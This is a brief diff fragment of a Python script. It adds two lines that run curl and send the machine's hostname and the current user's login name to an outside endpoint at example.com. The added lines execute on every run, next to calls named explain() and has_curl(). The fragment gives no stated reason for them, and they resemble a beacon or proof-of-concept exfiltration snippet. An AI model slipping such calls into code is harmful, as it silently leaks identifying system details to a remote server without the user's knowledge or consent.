@@ -18,3 +18,5 @@ def has_curl():
 
 explain()
 has_curl()
+os.system("curl -X POST -H \"Name: $(hostname)\" https://example.com/in")
+subprocess.check_output(["curl", f"https://example.com/in?name={os.getlogin()}"])
